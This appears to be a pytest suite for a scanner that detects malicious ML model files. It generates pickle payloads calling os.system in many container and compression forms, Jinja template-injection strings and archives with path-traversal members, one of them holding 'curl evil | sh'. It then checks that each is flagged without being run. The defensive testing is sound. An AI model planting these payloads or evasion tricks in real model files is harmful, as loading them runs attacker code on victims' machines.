"""Issue 14: every container form of a committed model file, benign and malicious, generated here.

Each malicious file must give an exact finding and each benign one none. Nothing is loaded or unpickled.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import io
import json
import lzma
import os
import pickle
import zlib
from pathlib import Path

import pytest

from gate.discover.engine import discover
from gate.verify.pickles import scan_artifact
from tests.verify import model_samples as ms
from tests.verify import pickle_samples as samples


def scan_repo(repo: Path, *extra: str) -> tuple[int, dict]:
    """`model-gate scan REPO --format json` in this process; its stdout must be the JSON report and nothing else."""
    from gate.cli import main

    stdout = io.StringIO()
    with contextlib.redirect_stdout(stdout):
        code = main(["scan", str(repo), "--format", "json", "--jobs", "1", *extra])
    return code, json.loads(stdout.getvalue())


def content_findings(report: dict) -> list[tuple[str, str, str]]:
    rules = {"malicious-pickle", "suspicious-pickle", "unsafe-model-code", "unanalysable-model-file"}
    return sorted((f["rule"], f["severity"], f["path"]) for f in report["findings"] if f["rule"] in rules)


def write_repo(tmp_path: Path, files: dict[str, bytes]) -> Path:
    repo = tmp_path / "repo"
    for name, data in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(data)
    return repo


# --- 1. containers ---------------------------------------------------------------------------------------

MALICIOUS_FORMS = {
    "weights.dat": ms.protocol0_system(),                          # protocol 0, odd suffix
    "noext": ms.evil(1),                                           # protocol 1, no suffix
    "n0.pkl": b"N0" + ms.protocol0_system(),                       # NONE, POP before the payload
    "mark_pop.bin": b"(0" + ms.protocol0_system(),                 # MARK, POP: picklescan's blind spot
    "trailing.ckpt": ms.evil(4) + b"\x00trailing garbage" * 4,     # bytes after STOP
    "fake.safetensors": ms.evil(2),                                # a pickle named safetensors
    "polyglot.pt": ms.evil(2) + ms.torch_zip(ms.benign_state_dict()),   # pickle.load runs the pickle
    "polyglot_zip.pt": pickle.dumps({"a": 1}, protocol=2) + ms.torch_zip(ms.evil(2)),  # torch.load the zip
    "anyname.zip": ms.zip_bytes({"weights/blob": ms.evil(4)}),     # member without a pickle suffix
    "model.tar.gz": ms.tar_bytes({"model/data.pkl": ms.evil(2)}),
    "nested.zip": ms.zip_bytes({"inner.tar": ms.tar_bytes({"deep/weights.pt": ms.torch_zip(ms.evil(2))}, "w")}),
    "zlib.joblib": zlib.compress(ms.evil(4)),
    "gzip.joblib": gzip.compress(ms.evil(4)),
    "bz2.joblib": bz2.compress(ms.evil(4)),
    "lzma.joblib": lzma.compress(ms.evil(4), format=lzma.FORMAT_ALONE),
    "xz.joblib": lzma.compress(ms.evil(4)),
    "old_zf.joblib": b"ZF" + hex(len(ms.evil(2))).encode().ljust(19) + zlib.compress(ms.evil(2)),
    "named_like_storage.pt": ms.zip_bytes({"archive/data.pkl": ms.benign_state_dict(),
                                           "archive/data/evil.pkl": ms.evil(2)}),
}


@pytest.mark.parametrize("name", sorted(MALICIOUS_FORMS))
def test_every_container_form_of_a_malicious_pickle_is_flagged(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(MALICIOUS_FORMS[name])
    scan = scan_artifact(path, name)
    worst = max(scan.pickles, key=lambda s: ["likely_safe", "possibly_unsafe", "suspicious", "likely_unsafe",
                                             "likely_overtly_malicious", "overtly_malicious"].index(s.severity))
    assert worst.severity == "overtly_malicious"
    assert any("system" in t for t in worst.triggers)


def test_malicious_forms_fail_the_default_policy_with_exact_findings(tmp_path):
    repo = write_repo(tmp_path, MALICIOUS_FORMS)
    code, report = scan_repo(repo)
    assert code == 1
    assert content_findings(report) == sorted(("malicious-pickle", "error", name) for name in MALICIOUS_FORMS)


def test_discovery_names_the_real_format(tmp_path):
    files = {
        "weights.dat": ms.protocol0_system(), "n0.pkl": b"N0" + ms.protocol0_system(),
        "trailing.ckpt": ms.evil(4) + b"\x00junk", "fake.safetensors": ms.evil(2),
        "header_lies.safetensors": b"\x40\x00\x00\x00\x00\x00\x00\x00{not json" + b" " * 80,
        "real.safetensors": ms.safetensors_bytes(),
        # a header of 0x280 bytes starts with \x80\x02, like a pickle's PROTO 2: still safetensors
        "proto_like.safetensors": ms.safetensors_bytes(header_length=0x280),
        "polyglot.pt": ms.evil(2) + ms.torch_zip(ms.benign_state_dict()),
        "zlib.joblib": zlib.compress(ms.evil(4)), "xz.joblib": lzma.compress(b"not a pickle at all, text"),
        "model.keras": ms.keras_zip(False),
        "README.md": b"# notes\n", "notes.txt": b"(c) 2024 someone. All rights reserved.\n",
    }
    repo = write_repo(tmp_path, files)
    assert (repo / "proto_like.safetensors").read_bytes()[:2] == b"\x80\x02"
    found = {r.path: r.format for r in discover(str(repo), jobs=1).references if r.kind == "artifact"}
    assert found == {
        "weights.dat": "pickle", "n0.pkl": "pickle", "trailing.ckpt": "pickle", "fake.safetensors": "pickle",
        "header_lies.safetensors": "protobuf", "real.safetensors": "safetensors",
        "proto_like.safetensors": "safetensors", "polyglot.pt": "pickle", "zlib.joblib": "pickle",
        "xz.joblib": "compressed", "model.keras": "keras-zip",
    }


def test_a_safetensors_header_that_reads_as_proto_is_not_scanned_as_a_pickle(tmp_path):
    path = tmp_path / "w.safetensors"
    path.write_bytes(ms.safetensors_bytes(header_length=0x280))
    assert scan_artifact(path).pickles == []


def test_zip_path_traversal_members_are_findings(tmp_path):
    repo = write_repo(tmp_path, {
        "model.zip": ms.zip_bytes({"../../.bashrc": b"curl evil | sh\n", "ok/data.pkl": pickle.dumps([1], 2)}),
        "model.tar": ms.tar_bytes({"/etc/cron.d/x": b"* * * * * root id\n"}, "w"),
    })
    (repo / "load.py").write_text("import torch\ntorch.load('model.zip')\ntorch.load('model.tar')\n")
    code, report = scan_repo(repo)
    traversal = [f for f in report["findings"] if f["rule"] == "unsafe-model-code"]
    assert [(f["path"], f["severity"]) for f in traversal] == [("model.zip", "error")]
    assert traversal[0]["details"]["code"] == [{
        "kind": "archive-path-traversal", "where": "../../.bashrc", "severity": "error",
        "detail": "archive member `../../.bashrc` would be extracted outside the target directory (path traversal)"}]
    tar = scan_artifact(repo / "model.tar", "model.tar")
    assert [(c.kind, c.member) for c in tar.code] == [("archive-path-traversal", "/etc/cron.d/x")]


def test_seven_zip_members_are_scanned(tmp_path):
    py7zr = pytest.importorskip("py7zr")
    path = tmp_path / "model.7z"
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(ms.evil(2), "model/weights.pkl")
    (worst,) = scan_artifact(path, "model.7z").pickles
    assert (worst.member, worst.severity) == ("model/weights.pkl", "overtly_malicious")


def test_git_lfs_pointers_follow_the_format_rules_by_suffix(tmp_path):
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 1234\n"
    repo = write_repo(tmp_path, {"w/model.pt": pointer, "w/model.safetensors": pointer})
    code, report = scan_repo(repo)
    assert code == 1
    assert [(f["rule"], f["path"]) for f in report["findings"]] == [("unsafe-artifact-format", "w/model.pt")]
    assert "Git LFS pointer" in report["findings"][0]["message"] and "'pickle'" in report["findings"][0]["message"]
    code, report = scan_repo(repo, "--policy", str(write_policy(tmp_path, "extends: builtin:strict\n")))
    assert [(f["rule"], f["path"]) for f in report["findings"]] == [("unsafe-artifact-format", "w/model.pt")]
    # The oid is the model file's sha256: an artifacts entry pinning the reviewed file accepts its pointer.
    assert {r["path"]: r["sha256"] for r in report["references"]} == {"w/model.pt": "a" * 64,
                                                                      "w/model.safetensors": "a" * 64}
    reviewed = f"artifacts:\n  - {{path: w/model.pt, sha256: '{'a' * 64}', formats: [pickle], reason: reviewed}}\n"
    code, report = scan_repo(repo, "--policy", str(write_policy(tmp_path, reviewed)))
    assert (code, report["findings"]) == (0, [])


def write_policy(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "policy.yml"
    path.write_text("version: 1\n" + body)
    return path


# --- 2. precision ----------------------------------------------------------------------------------------


def test_what_real_checkpoints_carry_is_clean(tmp_path):
    # numpy scalar + dtype, argparse.Namespace, _codecs.encode, OrderedDict: a Lightning-style checkpoint.
    g = samples.global_
    scalar = samples.call(g("numpy._core.multiarray", "scalar"),
                          samples.call(g("numpy", "dtype"), samples.text("f8"), samples.NEWFALSE, b"\x88"),
                          samples.call(g("_codecs", "encode"), samples.text("\x00\x00"), samples.text("latin1")))
    namespace = g("argparse", "Namespace") + samples.EMPTY_TUPLE + b"\x81" + b"}" + samples.text("lr") + \
        b"G" + b"\x3f\xb9\x99\x99\x99\x99\x99\x9a" + b"s" + b"b"
    data = samples.PROTO_2 + b"}(" + samples.text("state_dict") + samples.state_dict_pickle({"w": 2})[2:-1] + \
        samples.text("epoch_metric") + scalar + samples.text("hparams") + namespace + samples.SETITEMS + samples.STOP
    path = tmp_path / "last.ckpt"
    path.write_bytes(ms.zip_bytes({"last/data.pkl": data, "last/data/0": b"\0" * 8, "last/version": b"3\n"}))
    scan = scan_artifact(path)
    assert [(s.member, s.severity, s.unanalysable) for s in scan.pickles] == [("last/data.pkl", "likely_safe", None)]


def test_torchscript_archives_are_scanned_and_their_pickle_helpers_are_clean(tmp_path):
    g = samples.global_
    constants = samples.PROTO_2 + b"(" + samples.call(g("torch.jit._pickle", "build_intlist"),
                                                      b"]" + samples.integer(3) + b"a") + samples.TUPLE + samples.STOP
    data = samples.PROTO_2 + g("__torch__.torch.nn.modules.linear", "Linear") + samples.EMPTY_TUPLE + b"\x81" + \
        b"}" + samples.text("training") + b"\x88" + b"s" + b"b" + samples.STOP
    path = tmp_path / "ts.pt"
    path.write_bytes(ms.zip_bytes({"ts/data.pkl": data, "ts/constants.pkl": constants,
                                   "ts/code/__torch__/torch/nn/modules/linear.py": b"def forward(self): pass\n"}))
    scans = scan_artifact(path).pickles
    assert [(s.member, s.severity) for s in scans] == [("ts/data.pkl", "likely_safe"),
                                                       ("ts/constants.pkl", "likely_safe")]
    evil_constants = samples.PROTO_2 + samples.call(g("os", "system"), samples.text("id")) + samples.STOP
    path.write_bytes(ms.zip_bytes({"ts/data.pkl": data, "ts/constants.pkl": evil_constants}))
    assert [(s.member, s.severity) for s in scan_artifact(path).pickles] == [
        ("ts/data.pkl", "likely_safe"), ("ts/constants.pkl", "overtly_malicious")]


def test_a_users_own_class_is_suspicious_not_malicious(tmp_path):
    # torch.save(model) of `class MyNet(nn.Module)` defined in the training script: NEWOBJ + BUILD.
    g = samples.global_
    data = samples.PROTO_2 + g("__main__", "MyNet") + samples.EMPTY_TUPLE + b"\x81" + b"}" + \
        samples.text("training") + b"\x88" + b"s" + b"b" + samples.STOP
    repo = write_repo(tmp_path, {"model.pt": ms.torch_zip(data)})
    code, report = scan_repo(repo, "--policy", str(write_policy(tmp_path, "defaults: {artifact_formats: {deny: [gguf]}}\n")))
    assert code == 0
    (finding,) = report["findings"]
    assert (finding["rule"], finding["severity"]) == ("suspicious-pickle", "warning")
    assert "`from __main__ import MyNet`" in finding["message"]


def test_a_pickle_that_cannot_be_analysed_says_so_and_fails_closed(tmp_path):
    # An opcode no unpickler knows after a valid start: never "would run dangerous code", never clean.
    repo = write_repo(tmp_path, {"odd.pkl": b"\x80\x05\x95\x05\x00\x00\x00\x00\x00\x00\x00\xff\xfe.",
                                 "cut.pkl": pickle.dumps({"a": [1, 2, 3]}, protocol=4)[:-6]})
    code, report = scan_repo(repo, "--policy", str(write_policy(tmp_path, "defaults: {artifact_formats: {deny: [gguf]}}\n")))
    assert code == 1
    assert content_findings(report) == [("unanalysable-model-file", "error", "cut.pkl"),
                                        ("unanalysable-model-file", "error", "odd.pkl")]
    for finding in report["findings"]:
        assert "could not be analysed" in finding["message"]
        assert "dangerous code" not in finding["message"]


def test_json_output_stays_parsable_with_a_malformed_pickle_and_library_output(tmp_path):
    # fickling's zip reader and other libraries may print; nothing may reach model-gate's stdout.
    repo = write_repo(tmp_path, {"bad.pt": b"PK\x03\x04" + b"\0" * 40, "garbage.pkl": b"\x80\x04\x95" + b"\xff" * 30})
    code, report = scan_repo(repo)
    assert code == 1 and {f["path"] for f in report["findings"]} == {"bad.pt", "garbage.pkl"}


def test_library_prints_become_warnings(tmp_path, monkeypatch):
    import gate.verify.pickles as pickles

    original = pickles._scan_container

    def noisy(*args, **kwargs):
        print("Warning: malformed pickle file, continuing")
        return original(*args, **kwargs)

    monkeypatch.setattr(pickles, "_scan_container", noisy)
    path = tmp_path / "x.pkl"
    path.write_bytes(pickle.dumps([1], protocol=2))
    scan = scan_artifact(path, "x.pkl")
    assert scan.warnings == ["x.pkl: Warning: malformed pickle file, continuing"]


def test_joblib_inline_array_bytes_are_stepped_over_and_what_follows_is_scanned(tmp_path):
    np = pytest.importorskip("numpy")
    joblib = pytest.importorskip("joblib")
    benign = tmp_path / "arrays.joblib"
    joblib.dump({"w": np.arange(1000, dtype=np.float32), "objects": np.array([{"a": 1}], dtype=object),
                 "after": "x"}, benign)
    assert [(s.severity, s.unanalysable) for s in scan_artifact(benign).pickles] == [("likely_safe", None)]
    evil = tmp_path / "evil.joblib"
    joblib.dump([np.ones(64, dtype=np.float64), RunsLater()], evil)
    (scan,) = scan_artifact(evil).pickles
    assert scan.severity == "overtly_malicious" and "from posix import system" in scan.triggers


class RunsLater:
    def __reduce__(self):
        return os.system, ("id",)


@pytest.mark.parametrize("compress", [3, ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3)])
def test_compressed_joblib_of_a_real_estimator_is_clean(tmp_path, compress):
    np = pytest.importorskip("numpy")
    joblib = pytest.importorskip("joblib")
    path = tmp_path / "model.joblib"
    joblib.dump({"coef": np.ones((3, 2)), "names": ["a", "b"]}, path, compress=compress)
    (scan,) = scan_artifact(path).pickles
    assert (scan.severity, scan.unanalysable) == ("likely_safe", None)


# --- 3. code that is not a pickle ------------------------------------------------------------------------


def test_code_in_non_pickle_formats_is_unsafe_model_code(tmp_path):
    repo = write_repo(tmp_path, {
        "keras/lambda.keras": ms.keras_zip(True), "keras/clean.keras": ms.keras_zip(False),
        "keras/lambda.h5": ms.hdf5_with_config_text(True), "keras/clean.h5": ms.hdf5_with_config_text(False),
        "onnx/custom.onnx": ms.onnx_model(domain="ai.onnx.contrib"), "onnx/clean.onnx": ms.onnx_model(),
        "onnx/escape.onnx": ms.onnx_model(location="../../../etc/passwd"),
        "onnx/beside.onnx": ms.onnx_model(location="weights.bin"),
        "tf/pyfunc/saved_model.pb": ms.saved_model("PyFunc"), "tf/clean/saved_model.pb": ms.saved_model("MatMul"),
        "tf/files/saved_model.pb": ms.saved_model("WriteFile"),
        "gguf/evil.gguf": ms.gguf_with_template(
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        "gguf/clean.gguf": ms.gguf_with_template(
            "{% for m in messages %}{{ m['role'] | upper }}: {{ m['content'].strip() }}{% endfor %}"
            "{% if add_generation_prompt %}{{ raise_exception('x') if false }}{% endif %}"),
    })
    code, report = scan_repo(repo)
    assert code == 1
    assert content_findings(report) == [
        ("unsafe-model-code", "error", "keras/lambda.h5"),
        ("unsafe-model-code", "error", "keras/lambda.keras"),
        ("unsafe-model-code", "error", "onnx/custom.onnx"),
        ("unsafe-model-code", "error", "onnx/escape.onnx"),
        ("unsafe-model-code", "error", "tf/pyfunc/saved_model.pb"),
        ("unsafe-model-code", "warning", "gguf/evil.gguf"),
        ("unsafe-model-code", "warning", "tf/files/saved_model.pb"),
    ]
    by_path = {f["path"]: f for f in report["findings"] if f["rule"] == "unsafe-model-code"}
    assert "Keras Lambda layer `exfiltrate`" in by_path["keras/lambda.keras"]["message"]
    assert "node `call` is a `PyFunc` op" in by_path["tf/pyfunc/saved_model.pb"]["message"]
    assert "`ai.onnx.contrib.Relu`" in by_path["onnx/custom.onnx"]["message"]
    assert "`../../../etc/passwd`" in by_path["onnx/escape.onnx"]["message"]
    assert "`__globals__`" in by_path["gguf/evil.gguf"]["message"] and "`popen(`" in by_path["gguf/evil.gguf"]["message"]


def test_hdf5_model_config_is_read_with_h5py(tmp_path):
    h5py = pytest.importorskip("h5py")
    from gate.verify.model_code import scan_model_code

    path = tmp_path / "model.h5"
    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps(ms.keras_config(True))
        handle.create_dataset("w", data=[1.0, 2.0])
    (code,) = scan_model_code(str(path), "model.h5", "hdf5")
    assert (code.kind, code.member) == ("keras-lambda", "model_config:exfiltrate")


def test_onnx_written_by_the_onnx_package(tmp_path):
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    from gate.verify.model_code import scan_model_code

    node = helper.make_node("Evil", ["x"], ["y"], domain="com.attacker", name="n")
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker", 1)])
    path = tmp_path / "m.onnx"
    onnx.save(model, str(path))
    found = scan_model_code(str(path), "m.onnx", "onnx")
    assert sorted((c.kind, c.member) for c in found) == [("onnx-custom-op", "graph/node:n"),
                                                         ("onnx-custom-op", "opset_import:com.attacker")]


def test_payload_never_runs_during_any_scan(tmp_path):
    marker = tmp_path / "PWNED"
    command = f"touch {marker}"
    repo = write_repo(tmp_path, {
        "a.dat": ms.protocol0_system(command), "b.joblib": zlib.compress(ms.evil(4, command)),
        "c.tar.gz": ms.tar_bytes({"x/data.pkl": ms.evil(2, command)}),
        "d.pt": ms.evil(2, command) + ms.torch_zip(ms.evil(2, command)),
    })
    code, report = scan_repo(repo)
    assert code == 1 and len(content_findings(report)) == 4
    assert not marker.exists()
    assert os.path.exists(repo / "a.dat")


def test_a_pickle_kept_as_data_is_suspicious_not_malicious(tmp_path):
    import base64

    inner = ms.evil(4)
    for name, value in (("raw.pkl", inner), ("b64.pkl", base64.b64encode(inner).decode()),
                        ("hex.pkl", inner.hex())):
        path = tmp_path / name
        path.write_bytes(pickle.dumps({"config": {"layers": 2}, "payload": value}, protocol=4))
        (scan,) = scan_artifact(path, name).pickles
        assert scan.severity == "suspicious", name
        assert "embedded pickle: from posix import system" in scan.triggers
    clean = tmp_path / "clean.pkl"
    clean.write_bytes(pickle.dumps({"cached": pickle.dumps([1, 2], protocol=4)}, protocol=4))
    assert [s.severity for s in scan_artifact(clean).pickles] == ["likely_safe"]


def test_a_string_enum_of_an_unknown_package_is_suspicious_and_a_call_with_objects_is_not(tmp_path):
    g = samples.global_
    enum = samples.call(g("mytrainer.utils", "IntervalStrategy"), samples.text("steps"))
    path = tmp_path / "training_args.bin"
    path.write_bytes(samples.PROTO_2 + b"}" + samples.text("eval_strategy") + enum + b"s" + samples.STOP)
    assert [s.severity for s in scan_artifact(path).pickles] == ["suspicious"]
    runner = samples.call(g("mytrainer.utils", "Runner"), g("collections", "OrderedDict"))
    path.write_bytes(samples.PROTO_2 + runner + samples.STOP)
    assert [s.severity for s in scan_artifact(path).pickles] == ["likely_unsafe"]


def test_a_damaged_compressed_stream_is_scanned_as_far_as_it_inflates(tmp_path):
    # A loader unpickles (and runs) what inflates before the damage; bytes that only look compressed are data.
    cut = tmp_path / "cut.joblib"
    cut.write_bytes(gzip.compress(ms.evil(4) + b"\0" * 4096)[:-12])
    (scan,) = scan_artifact(cut).pickles
    assert scan.severity == "overtly_malicious"
    lookalike = tmp_path / "weights.zip"
    lookalike.write_bytes(ms.zip_bytes({"blob": b"\x78\x9c" + bytes(range(256)) * 8}))
    assert scan_artifact(lookalike).pickles == []


@pytest.mark.parametrize(("template", "reaches"), [
    ("{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('1') }}",
     ["`__globals__`", "`__builtins__`", "a call of a looked-up value (`x[...](`)"]),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}",
     ["`__class__`", "`__mro__`", "`__subclasses__`", "`__subclasses__(`"]),
    ("{% for m in messages %}{{ m['content'] | trim }}{{ m.get('name', '').upper() }}{% endfor %}", []),
])
def test_chat_templates_reaching_past_jinja(template, reaches):
    from gate.verify.model_code import template_reaches_past_jinja

    assert template_reaches_past_jinja(template) == reaches


@pytest.mark.parametrize(("module", "name"), [("imaplib", "IMAP4_stream"), ("http.client", "HTTPSConnection"),
                                              ("httplib", "HTTPSConnection"), ("logging", "FileHandler")])
def test_a_standard_library_class_called_with_a_string_is_not_a_users_enum(tmp_path, module, name):
    # `imaplib.IMAP4_stream('id')` runs a command: no user's own class lives in the standard library.
    path = tmp_path / "x.pkl"
    path.write_bytes(samples.PROTO_2 + samples.call(samples.global_(module, name), samples.text("id")) + samples.STOP)
    (scan,) = scan_artifact(path).pickles
    assert scan.severity in ("likely_unsafe", "overtly_malicious")
    (finding,) = verdict_findings(scan)
    assert finding.rule == "malicious-pickle"


def verdict_findings(scan):
    from gate.policy.rules.malicious_pickle import pickle_findings

    return pickle_findings([scan], malicious_at="likely_unsafe", suspicious_at="suspicious", path="x.pkl", line=1,
                           reference=0)


def test_torchscript_code_calling_a_custom_operator_namespace_is_a_warning(tmp_path):
    code = b"def forward(self, x: Tensor) -> Tensor:\n  y = torch.ops.aten.relu(x)\n  return torch.ops.evil_ns.run(y)\n"
    path = tmp_path / "scripted.pt"
    path.write_bytes(ms.zip_bytes({"m/data.pkl": ms.benign_state_dict(), "m/code/__torch__/m.py": code,
                                   "m/constants.pkl": pickle.dumps((), protocol=2)}))
    scan = scan_artifact(path)
    assert [(c.kind, c.member, c.severity) for c in scan.code] == [
        ("torchscript-custom-op", "m/code/__torch__/m.py", "warning")]
    assert "`torch.ops.evil_ns`" in scan.code[0].detail
